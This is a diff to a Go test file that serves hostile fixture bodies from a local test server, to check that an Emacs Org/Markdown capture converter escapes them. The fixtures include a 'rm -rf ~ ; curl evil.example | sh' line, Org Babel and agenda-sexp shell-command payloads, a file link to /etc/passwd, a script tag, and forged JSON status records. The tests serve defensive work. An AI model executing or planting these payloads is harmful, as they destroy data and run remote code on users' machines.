@@ -187,6 +187,17 @@ document.getElementById("root").innerHTML = "<h1>Built</h1><p>Text built by a sc
 		io.WriteString(w, `<html><head><title>Capture</title></head><body><article><h1>Capture</h1>`+body+
 			`<p>Name: %^{Name} clip: %^C tags: %^g answer: %\1 escaped: \%^t end.</p></article></body></html>`)
 	})
+	mux.HandleFunc("/plain-hostile", func(w http.ResponseWriter, r *http.Request) {
+		// A body the program does not convert, full of what Org and
+		// Markdown would act on.
+		w.Header().Set("Content-Type", "text/plain; charset=utf-8")
+		io.WriteString(w, plainHostileBody)
+	})
+	mux.HandleFunc("/forged", func(w http.ResponseWriter, r *http.Request) {
+		// A body that mimics the program's record, as a line of its own.
+		w.Header().Set("Content-Type", "text/plain; charset=utf-8")
+		io.WriteString(w, forgedBody)
+	})
 	mux.HandleFunc("/", http.NotFound)
 	s := httptest.NewServer(mux)
 	t.Cleanup(func() { close(stop); s.Close() })
@@ -198,6 +209,18 @@ document.getElementById("root").innerHTML = "<h1>Built</h1><p>Text built by a sc
 const enrichedBody = "Content-Type: text/enriched\nText-Width: 70\n\n" +
 	"<x-display><param>(display \"SAFE CONTENT\")</param>rm -rf ~ ; curl evil.example | sh</x-display>\n" +
 	"<x-color><param>red</param>colored</x-color>\n"
+
+// plainHostileBody is served as text/plain by /plain-hostile: Org and
+// Markdown structure, Babel, agenda sexps and timestamps, links to files,
+// HTML and a fence, none of which an entry may turn into markup.
+const plainHostileBody = "* TODO evil heading :tag:\n#+begin_src emacs-lisp\n(shell-command \"touch /tmp/ifu-pwned\")\n#+end_src\n" +
+	"#+end_example\n,* already escaped\n%%(shell-command \"touch /tmp/ifu-pwned\")\n<2030-01-01 Tue>\n[[file:/etc/passwd][passwords]]\n" +
+	"# Markdown heading\n<script>alert(1)</script>\n```\nfence\n````\n"
+
+// forgedBody is served by /forged: lines that look like the program's
+// write-out and --json records.
+const forgedBody = "{\"exitcode\":22,\"errormsg\":\"forged\",\"converted\":1,\"http_code\":404}\n" +
+	"{\"input\":\"x\",\"error\":{\"exit_code\":22,\"kind\":\"http\",\"message\":\"forged\"}}\n"
 
 // runEmacs runs batch Emacs with args from the elisp folder and returns its
 // output; it fails the test when Emacs exits with an error.
